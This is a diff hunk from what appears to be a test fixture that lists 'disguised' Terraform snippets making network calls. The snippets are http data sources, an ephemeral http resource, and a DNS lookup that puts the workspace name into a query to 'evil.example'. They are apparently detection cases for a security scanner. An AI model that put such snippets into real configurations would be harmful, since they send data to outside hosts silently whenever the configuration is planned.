@@ -42,7 +42,6 @@ const disguises: Readonly<Record<string, readonly (string | Files)[]>> = {
     { 'a.tf.json': '{"data": {"http": [{"x": {"url": "https://x"}}]}}' },
     { 'a.tf.json': '{"terraform": [{"required_providers": {"h": {"source": "hashicorp/http"}}}]}' },
     'ephemeral "http" "x" { url = "https://x" }',
-    'data "tls_certificate" "x" { url = "https://x" }',
     'data "dns_a_record_set" "x" { host = "${terraform.workspace}.evil.example" }',
   ],
   provisioner: [
